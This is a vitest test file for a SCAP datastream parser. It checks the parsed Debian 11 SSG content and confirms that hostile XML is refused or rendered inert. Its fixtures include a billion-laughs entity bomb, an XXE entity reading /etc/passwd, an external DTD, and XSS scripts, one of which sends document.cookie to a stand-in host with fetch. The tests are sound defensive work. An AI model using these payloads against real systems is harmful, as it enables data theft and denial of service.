// The datastream reader against the real Debian 11 SSG content (checked against grep and oscap) and
// against hostile files, each of which must fail fast, in bounded memory, with an error that names why.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createHash } from 'node:crypto'
import { spawnSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { parseDatastream, type ParseOptions } from '../../../src-main/core/scap/datastream'
import { referenceSystem } from '../../../src-main/core/scap/references'
import { ScapError, type Benchmark, type ParsedDatastream } from '../../../src-main/core/scap/types'

const FILE = '/usr/share/xml/scap/ssg/content/ssg-debian11-ds.xml'
const P = 'xccdf_org.ssgproject.content_'
const XCCDF = 'http://checklists.nist.gov/xccdf/1.2'

let raw: string
let ds: ParsedDatastream
let bench: Benchmark

beforeAll(async () => {
  raw = readFileSync(FILE, 'utf8')
  ds = await parseDatastream(FILE)
  bench = ds.benchmarks[0]!
})

/** The text of one element in the raw file, cut with a regular expression: a check independent of ours. */
function block(tag: string, id: string): string {
  const start = raw.indexOf(`<xccdf-1.2:${tag} id="${id}"`)
  if (start < 0) throw new Error(`${tag} ${id} not in file`)
  return raw.slice(start, raw.indexOf(`</xccdf-1.2:${tag}>`, start))
}

describe('parseDatastream: the Debian 11 SSG datastream', () => {
  it('identifies the file, the data-stream and the benchmark as oscap needs them', () => {
    const bytes = readFileSync(FILE)
    expect(ds.sha256).toBe(createHash('sha256').update(bytes).digest('hex'))
    expect(ds.bytes).toBe(bytes.length)
    expect(ds.scapVersion).toBe('1.3')
    expect(ds.benchmarks).toHaveLength(1)
    expect(bench.id).toBe(`${P}benchmark_DEBIAN-11`)
    expect(bench.title).toBe('Guide to the Secure Configuration of Debian 11')
    expect(bench.version).toBe('0.1.65')
    expect(bench.datastreamId).toBe('scap_org.open-scap_datastream_from_xccdf_ssg-debian11-xccdf.xml')
    expect(bench.componentId).toBe('scap_org.open-scap_comp_ssg-debian11-xccdf.xml')
    expect(bench.componentRefId).toBe('scap_org.open-scap_cref_ssg-debian11-xccdf.xml')
  })

  it('has the same profiles, ids and titles, as `oscap info --profiles`', () => {
    const run = spawnSync('oscap', ['info', '--profiles', FILE], { encoding: 'utf8' })
    expect(run.status).toBe(0)
    const theirs = run.stdout.trim().split('\n').sort()
    expect(theirs.length).toBeGreaterThan(0)
    expect(bench.profiles.map((p) => `${p.id}:${p.title}`).sort()).toEqual(theirs)
  })

  it('reads each profile: selections, refine-values and description as in the file', () => {
    for (const p of bench.profiles) {
      const text = block('Profile', p.id)
      expect(p.selected).toHaveLength(text.match(/<xccdf-1\.2:select [^>]*selected="true"/g)?.length ?? 0)
      expect(p.unselected ?? []).toHaveLength(
        text.match(/<xccdf-1\.2:select [^>]*selected="false"/g)?.length ?? 0,
      )
      expect(Object.keys(p.refineValues)).toHaveLength(text.match(/<xccdf-1\.2:refine-value /g)?.length ?? 0)
    }
    const std = bench.profiles.find((p) => p.id === `${P}profile_standard`)!
    expect(std.title).toBe('Standard System Security Profile for Debian 11')
    expect(std.description).toMatch(/^This profile contains rules to ensure standard security baseline/)
    expect(std.selected.length).toBeGreaterThan(0)
    expect(std.selected).toContain(`${P}rule_sshd_set_idle_timeout`)
    expect(std.refineValues).toEqual({
      [`${P}value_sshd_idle_timeout_value`]: '5_minutes',
      [`${P}value_var_sshd_set_keepalive`]: '0',
      [`${P}value_file_owner_logfiles_value`]: 'adm',
      [`${P}value_file_groupowner_logfiles_value`]: 'adm',
    })
    expect(std.setValues).toEqual({})
    expect(std.extends).toBeUndefined()
    const ruleIds = new Set(bench.rules.map((r) => r.id))
    expect(std.selected.every((id) => ruleIds.has(id))).toBe(true)
  })

  it('has all 452 Values with the types the file declares', () => {
    const declared: Record<string, number> = {}
    for (const m of raw.matchAll(/<xccdf-1\.2:Value [^>]*type="(\w+)"/g)) {
      declared[m[1]!] = (declared[m[1]!] ?? 0) + 1
    }
    const ours: Record<string, number> = {}
    for (const v of bench.values) ours[v.type] = (ours[v.type] ?? 0) + 1
    expect(bench.values).toHaveLength(452)
    expect(ours).toEqual(declared)
    expect(ours).toEqual({ boolean: 296, number: 92, string: 64 })
    expect(bench.values.filter((v) => v.interactive)).toHaveLength(raw.match(/interactive="true"/g)!.length)
    expect(bench.values.filter((v) => v.operator === 'pattern match')).toHaveLength(1)
  })

  it('reads the SSH idle timeout Value: selectors, default, and the rule that uses it', () => {
    const v = bench.values.find((x) => x.id === `${P}value_sshd_idle_timeout_value`)!
    expect(v).toMatchObject({
      title: 'SSH session Idle time',
      description: 'Specify duration of allowed idle time.',
      type: 'number',
      operator: 'equals',
      interactive: false,
      default: '300',
    })
    expect(v.selectors).toHaveLength(7)
    expect(v.selectors).toContainEqual({ selector: '5_minutes', value: '300' })
    expect(v.selectors).toContainEqual({ selector: '10_minutes', value: '600' })
    expect(v.selectors[0]).toEqual({ selector: '10_minutes', value: '600' })
    expect(v.usedBy).toEqual([`${P}rule_sshd_set_idle_timeout`])
    const rule = bench.rules.find((r) => r.id === `${P}rule_sshd_set_idle_timeout`)!
    expect(rule.values).toContain(v.id)
    // Every check-export in the file is accounted for, once per rule.
    const exported = raw
      .split('<xccdf-1.2:Rule ')
      .slice(1)
      .map(
        (r) =>
          new Set([...r.split('</xccdf-1.2:Rule>')[0]!.matchAll(/value-id="([^"]+)"/g)].map((m) => m[1]))
            .size,
      )
    expect(bench.rules.map((r) => r.values.length)).toEqual(exported)
  })

  it('reads a rule: severity, sanitised description and rationale, NIST 800-53 references', () => {
    const rule = bench.rules.find((r) => r.id === `${P}rule_sshd_set_idle_timeout`)!
    expect(rule.title).toBe('Set SSH Client Alive Interval')
    expect(rule.severity).toBe('medium')
    expect(rule.selectedByDefault).toBe(false)
    expect(rule.description).not.toContain('<')
    expect(rule.description).toContain('edit the following line in /etc/ssh/sshd_config as follows:')
    expect(rule.description).toContain(`ClientAliveInterval [${P}value_sshd_idle_timeout_value]`)
    // <br/><br/> was a paragraph break and stays one.
    expect(rule.description).toContain('automatically logged out.\n\nTo set this timeout interval')
    expect(rule.rationale).toMatch(/^Terminating an idle ssh session/)
    const nist = rule.references.filter((r) => r.system === 'NIST-800-53').map((r) => r.id)
    expect(nist).toEqual(expect.arrayContaining(['AC-12', 'SC-10', 'CM-6(a)', 'AC-17(a)', 'AC-2(5)']))
    expect(rule.references).toContainEqual({
      system: 'ANSSI',
      id: 'BP28(R29)',
      href: 'http://www.ssi.gouv.fr/administration/bonnes-pratiques/',
    })
    expect(rule.references.some((r) => r.system === 'DISA-SRG' && r.id.startsWith('SRG-OS-'))).toBe(true)
    expect(rule.groupId).toBe(`${P}group_ssh_server`)
  })

  it('leaves no markup in any text it keeps', () => {
    const texts = [
      ...bench.rules.flatMap((r) => [r.title, r.description, r.rationale]),
      ...bench.values.flatMap((v) => [v.title, v.description]),
      ...bench.profiles.flatMap((p) => [p.title, p.description]),
      ...bench.groups.map((g) => g.title),
    ]
    expect(texts.filter((t) => /<\/?(html:)?[a-z]+[\s/>]|html:|xmlns/.test(t))).toEqual([])
    expect(bench.rules.filter((r) => r.description === '')).toEqual([])
  })

  it('builds the group tree and places every rule in it', () => {
    expect(bench.groups).toHaveLength(raw.match(/<xccdf-1\.2:Group /g)!.length)
    expect(bench.rules).toHaveLength(raw.match(/<xccdf-1\.2:Rule /g)!.length)
    const groups = new Map(bench.groups.map((g) => [g.id, g]))
    expect(groups.get(`${P}group_system`)).toEqual({
      id: `${P}group_system`,
      title: 'System Settings',
      parentId: null,
    })
    expect(groups.get(`${P}group_ssh_server`)!.parentId).toBe(`${P}group_ssh`)
    expect(bench.groups.every((g) => g.parentId === null || groups.has(g.parentId))).toBe(true)
    expect(bench.rules.every((r) => groups.has(r.groupId))).toBe(true)
  })

  it('gives the same result from bytes as from the path', async () => {
    const fromBytes = await parseDatastream(readFileSync(FILE))
    expect(fromBytes).toEqual(ds)
  })
})

const bm = (inner: string, attrs = ''): string =>
  `<?xml version="1.0" encoding="UTF-8"?>\n` +
  `<x:Benchmark xmlns:x="${XCCDF}" xmlns:h="http://www.w3.org/1999/xhtml" ` +
  `id="xccdf_test_benchmark_t"${attrs}><x:title>T</x:title><x:version>1</x:version>${inner}</x:Benchmark>`

describe('parseDatastream: a plain XCCDF 1.2 Benchmark, whatever its prefixes', () => {
  it('keeps shell and Ansible fix snippets with Values as [placeholders], one per system, and drops others', async () => {
    const xml = bm(`
      <x:Rule id="xccdf_test_rule_f" severity="medium">
        <x:title>F</x:title>
        <x:fix system="urn:xccdf:fix:script:sh">var_tmout='<x:sub idref="xccdf_test_value_tmout" use="legacy"/>'
echo "TMOUT=$var_tmout" &gt;&gt; /etc/profile</x:fix>
        <x:fix system="urn:xccdf:fix:script:sh">echo second shell fix ignored</x:fix>
        <x:fix system="urn:xccdf:fix:script:ansible">- name: Set TMOUT
  lineinfile: {path: /etc/profile, line: "TMOUT=<x:sub idref="xccdf_test_value_tmout"/>"}</x:fix>
        <x:fix system="urn:xccdf:fix:script:puppet">include tmout</x:fix>
      </x:Rule>`)
    const rule = (await parseDatastream(Buffer.from(xml))).benchmarks[0]!.rules[0]!
    expect(rule.fixes).toEqual([
      {
        system: 'bash',
        text: `var_tmout='[xccdf_test_value_tmout]'\necho "TMOUT=$var_tmout" >> /etc/profile`,
      },
      {
        system: 'ansible',
        text: '- name: Set TMOUT\n  lineinfile: {path: /etc/profile, line: "TMOUT=[xccdf_test_value_tmout]"}',
      },
    ])
  })

  it('reads idents, references, bounds, match, profiles that extend and refine', async () => {
    const xml = bm(`
      <x:Profile id="xccdf_test_profile_p" extends="xccdf_test_profile_base">
        <x:title>P</x:title>
        <x:select idref="xccdf_test_rule_r" selected="true"/>
        <x:select idref="xccdf_test_rule_q" selected="true"/>
        <x:select idref="xccdf_test_rule_q" selected="false"/>
        <x:set-value idref="xccdf_test_value_n"> 42 </x:set-value>
        <x:refine-rule idref="xccdf_test_rule_r" severity="high" weight="2"/>
      </x:Profile>
      <x:Value id="xccdf_test_value_n" type="number" operator="less than or equal" interactive="1">
        <x:title>N</x:title>
        <x:value selector="small">5</x:value><x:value>10</x:value>
        <x:lower-bound selector="small">2</x:lower-bound><x:lower-bound>1</x:lower-bound>
        <x:upper-bound selector="small">8</x:upper-bound><x:upper-bound selector="big">99</x:upper-bound>
      </x:Value>
      <x:Value id="xccdf_test_value_s">
        <x:title>S</x:title><x:value>a b</x:value><x:match>^[a-z ]+$</x:match>
      </x:Value>
      <x:Group id="xccdf_test_group_g"><x:title>G</x:title>
        <x:Rule id="xccdf_test_rule_r" severity="low" selected="false">
          <x:title>R</x:title>
          <x:description>Set<h:br/><h:ul><h:li>one</h:li><h:li>two</h:li></h:ul></x:description>
          <x:ident system="http://cce.mitre.org">CCE-1234-5</x:ident>
          <x:ident system="https://ncp.nist.gov/cce">CCE-6789-0</x:ident>
          <x:reference href="https://nvlpubs.nist.gov/nistpubs/SpecialPublications/NIST.SP.800-53r5.pdf"
            >AC-1</x:reference>
          <x:reference href="https://public.cyber.mil/stigs/downloads/?x=os">UBTU-20-010001</x:reference>
          <x:reference href="https://www.cisecurity.org/benchmark/ubuntu_linux/">5.2.1</x:reference>
          <x:reference href="https://www.pcisecuritystandards.org/documents/PCI_DSS_v3-2-1.pdf"
            >Req-8.1</x:reference>
          <x:reference href="https://example.org/policy">P-7</x:reference>
          <x:complex-check operator="AND"><x:check system="s">
            <x:check-export export-name="e" value-id="xccdf_test_value_n"/>
            <x:check-export export-name="f" value-id="xccdf_test_value_s"/>
          </x:check></x:complex-check>
        </x:Rule>
      </x:Group>
      <x:Rule id="xccdf_test_rule_q" severity="bogus"><x:title>Q</x:title></x:Rule>`)
    const { benchmarks, scapVersion } = await parseDatastream(Buffer.from(xml))
    const b = benchmarks[0]!
    expect(scapVersion).toBe('')
    expect(b).toMatchObject({ id: 'xccdf_test_benchmark_t', title: 'T', version: '1', datastreamId: '' })
    expect(b.profiles[0]).toEqual({
      id: 'xccdf_test_profile_p',
      title: 'P',
      description: '',
      extends: 'xccdf_test_profile_base',
      selected: ['xccdf_test_rule_r'],
      unselected: ['xccdf_test_rule_q'],
      refineValues: {},
      setValues: { xccdf_test_value_n: ' 42 ' },
      refineRules: { xccdf_test_rule_r: { severity: 'high' } },
    })
    const [n, s] = b.values
    expect(n).toMatchObject({
      type: 'number',
      operator: 'less than or equal',
      interactive: true,
      default: '10',
      selectors: [{ selector: 'small', value: '5' }],
      lowerBound: 1,
      upperBound: 8,
      usedBy: ['xccdf_test_rule_r'],
    })
    expect(s).toMatchObject({ type: 'string', operator: 'equals', default: 'a b', match: '^[a-z ]+$' })
    const r = b.rules[0]!
    expect(r).toMatchObject({ severity: 'low', selectedByDefault: false, groupId: 'xccdf_test_group_g' })
    expect(r.description).toBe('Set\n- one\n- two')
    expect(r.values).toEqual(['xccdf_test_value_n', 'xccdf_test_value_s'])
    expect(r.references.map((x) => `${x.system} ${x.id}`)).toEqual([
      'CCE CCE-1234-5',
      'CCE CCE-6789-0',
      'NIST-800-53 AC-1',
      'STIG UBTU-20-010001',
      'CIS 5.2.1',
      'PCI-DSS Req-8.1',
      'other P-7',
    ])
    expect(r.references[6]!.href).toBe('https://example.org/policy')
    expect(b.rules[1]).toMatchObject({
      id: 'xccdf_test_rule_q',
      severity: 'unknown',
      selectedByDefault: true,
    })
    expect(b.rules[1]!.groupId).toBe('')
  })

  it('maps the reference systems SSG uses', () => {
    expect(referenceSystem('https://public.cyber.mil/stigs/cci/', 'CCI-000366')).toBe('DISA-CCI')
    expect(referenceSystem('https://public.cyber.mil/stigs/downloads/?x', 'SRG-OS-000163-GPOS-00072')).toBe(
      'DISA-SRG',
    )
    expect(
      referenceSystem('http://nvlpubs.nist.gov/nistpubs/SpecialPublications/NIST.SP.800-171.pdf', '3.1.1'),
    ).toBe('NIST-800-171')
    expect(referenceSystem('https://www.cisecurity.org/controls/', '5')).toBe('CIS-CSC')
    expect(referenceSystem('', '1034')).toBe('other')
  })
})

// ---- hostile content ----

let dir: string
beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'dw-scap-'))
})
afterAll(() => rmSync(dir, { recursive: true, force: true }))

/** Parses a file and returns the error, asserting it came fast and without the heap ballooning. */
async function refuse(name: string, content: string | Buffer, opts?: ParseOptions): Promise<ScapError> {
  const path = join(dir, name)
  writeFileSync(path, content)
  const base = process.memoryUsage().heapUsed
  let peak = base
  const sampler = setInterval(() => (peak = Math.max(peak, process.memoryUsage().heapUsed)), 1)
  const t0 = performance.now()
  let err: unknown
  try {
    await parseDatastream(path, opts)
  } catch (e) {
    err = e
  } finally {
    clearInterval(sampler)
  }
  const ms = performance.now() - t0
  peak = Math.max(peak, process.memoryUsage().heapUsed)
  expect(err, `${name} was accepted`).toBeInstanceOf(ScapError)
  expect(ms, `${name} took ${ms.toFixed(0)} ms`).toBeLessThan(3000)
  expect(peak - base, `${name} grew the heap`).toBeLessThan(200 * 1024 * 1024)
  return err as ScapError
}

const DOCTYPE_MSG = 'The file declares a DOCTYPE; Driftwatch refuses DTDs and entities in SCAP content'

describe('parseDatastream: hostile files fail fast and say why', () => {
  it('refuses the billion laughs', async () => {
    const ents = Array.from(
      { length: 9 },
      (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`,
    ).join('\n')
    const xml = `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol0 "lol">\n${ents}\n]>\n${bm(
      '<x:Value id="xccdf_test_value_v"><x:title>&lol9;</x:title></x:Value>',
    ).replace(/^<\?xml[^>]*>\n/, '')}`
    const e = await refuse('lolz.xml', xml)
    expect(e.code).toBe('doctype')
    expect(e.message).toBe(DOCTYPE_MSG)
  })

  it('refuses an external entity and never reads the file it names', async () => {
    const xml = `<?xml version="1.0"?>\n<!DOCTYPE b [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n${bm(
      '<x:Value id="xccdf_test_value_v"><x:title>&xxe;</x:title></x:Value>',
    ).replace(/^<\?xml[^>]*>\n/, '')}`
    const e = await refuse('xxe.xml', xml)
    expect(e.code).toBe('doctype')
    expect(e.message).not.toContain('root:')
  })

  it('refuses an external DTD', async () => {
    const xml = `<?xml version="1.0"?>\n<!DOCTYPE Benchmark SYSTEM "http://127.0.0.1:9/evil.dtd">\n${bm(
      '',
    ).replace(/^<\?xml[^>]*>\n/, '')}`
    expect((await refuse('dtd.xml', xml)).code).toBe('doctype')
  })

  it('stops 200,000-deep nesting at the depth limit', async () => {
    const n = 200_000
    const e = await refuse('deep.xml', bm(`${'<x:a>'.repeat(n)}${'</x:a>'.repeat(n)}`))
    expect(e.code).toBe('too_deep')
    expect(e.message).toContain('limit of 256 levels')
  })

  it('stops a 10 MB attribute at the attribute limit', async () => {
    const e = await refuse('attr.xml', bm(`<x:Rule id="${'A'.repeat(10 * 1024 * 1024)}"/>`))
    expect(e.code).toBe('too_large')
    expect(e.message).toMatch(/attribute limit/)
    expect(e.message).toContain('1 MiB')
  })

  it('stops a 20 MB text node at the text limit', async () => {
    const e = await refuse('text.xml', bm(`<x:description>${'lorem '.repeat(3_500_000)}</x:description>`))
    expect(e.code).toBe('too_large')
    expect(e.message).toContain('8 MiB limit')
  })

  it('names bad UTF-8 and where it is', async () => {
    const head = Buffer.from(bm('<x:Value id="xccdf_test_value_v"><x:title>caf'))
    const tail = Buffer.from('</x:title></x:Value></x:Benchmark>')
    const e = await refuse('utf8.xml', Buffer.concat([head, Buffer.from([0xe9, 0x20, 0xff, 0xfe]), tail]))
    expect(e.code).toBe('malformed')
    expect(e.message).toBe(
      `The file is not valid UTF-8 (bad byte sequence at byte ${head.length}); SCAP content must be UTF-8`,
    )
  })

  it('refuses a truncated datastream (its first megabyte)', async () => {
    const e = await refuse('truncated.xml', readFileSync(FILE).subarray(0, 1024 * 1024))
    expect(e.code).toBe('malformed')
    expect(e.message).toMatch(/^The XML is malformed at line \d+, column \d+: unclosed tag: /)
  })

  it('refuses an undefined entity instead of passing it through', async () => {
    const e = await refuse(
      'entity.xml',
      bm('<x:Value id="xccdf_test_value_v"><x:title>a &foo; b</x:title></x:Value>'),
    )
    expect(e.code).toBe('malformed')
    expect(e.message).toMatch(
      /^The XML is malformed at line 2, column \d+: undefined entity \(only the five XML entities/,
    )
  })

  it('refuses XML that is not SCAP, and SCAP with no benchmark', async () => {
    const html = await refuse('page.xml', '<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>')
    expect(html.code).toBe('not_scap')
    expect(html.message).toContain('{http://www.w3.org/1999/xhtml}html')
    const empty = await refuse(
      'empty-ds.xml',
      '<ds:data-stream-collection xmlns:ds="http://scap.nist.gov/schema/scap/source/1.2"/>',
    )
    expect(empty.code).toBe('not_scap')
    expect(empty.message).toMatch(/no XCCDF 1\.2 Benchmark/)
    const old = await refuse(
      'xccdf11.xml',
      '<Benchmark xmlns="http://checklists.nist.gov/xccdf/1.1" id="b"/>',
    )
    expect(old.code).toBe('not_scap')
    expect((await refuse('blank.xml', '')).code).toBe('malformed')
  })

  it('refuses a declared encoding other than UTF-8', async () => {
    const e = await refuse('latin1.xml', bm('').replace('UTF-8', 'ISO-8859-1'))
    expect(e.message).toBe('The file declares encoding "ISO-8859-1"; SCAP content must be UTF-8')
  })

  it('names the limit it hit when the caller lowers the caps', async () => {
    const real = readFileSync(FILE)
    const small = await refuse('size.xml', real, { maxBytes: 1024 * 1024 })
    expect(small).toMatchObject({ code: 'too_large' })
    expect(small.message).toContain('over the 1 MiB limit')
    const many = await refuse('many.xml', real, { maxElements: 1000 })
    expect(many).toMatchObject({
      code: 'too_many',
      message: 'The content has more than 1,000 elements (the limit)',
    })
    const rules = await refuse('rules.xml', real, { maxRules: 10 })
    expect(rules).toMatchObject({
      code: 'too_many',
      message: 'The content has more than 10 rules (the limit)',
    })
  })

  it('stops when the caller aborts', async () => {
    await expect(parseDatastream(FILE, { signal: AbortSignal.abort() })).rejects.toThrow(/abort/i)
  })

  it('turns a hostile description into inert text', async () => {
    const xml = bm(`
      <x:Rule id="xccdf_test_rule_evil" onclick="steal()">
        <x:title>Evil<h:script>alert(1)</h:script></x:title>
        <x:description>Read <h:a href="javascript:alert(document.cookie)" onclick="steal()">the docs</h:a>.
          <h:script type="text/javascript">fetch('http://127.0.0.1:9/'+document.cookie)</h:script>
          <h:img src="x" onerror="steal()"/><h:style>body{display:none}</h:style>
          <h:p onmouseover="steal()">Then <h:b>restart</h:b> sshd.</h:p>
          <script xmlns="">alert(2)</script><![CDATA[plain & simple]]>
          Escaped text stays text: &lt;b&gt;.</x:description>
        <x:rationale><h:iframe src="javascript:alert(3)">x</h:iframe>Because.</x:rationale>
      </x:Rule>`)
    const path = join(dir, 'evil.xml')
    writeFileSync(path, xml)
    const r = (await parseDatastream(path)).benchmarks[0]!.rules[0]!
    expect(r.title).toBe('Evil')
    expect(r.description).toBe(
      'Read the docs.\nThen restart sshd.\nplain & simple Escaped text stays text: <b>.',
    )
    expect(r.rationale).toBe('Because.')
    for (const t of [r.title, r.description, r.rationale]) {
      expect(t).not.toMatch(/<script|javascript:|onclick|onerror|onmouseover|alert|steal|<a |<img|<iframe/i)
    }
  })
})
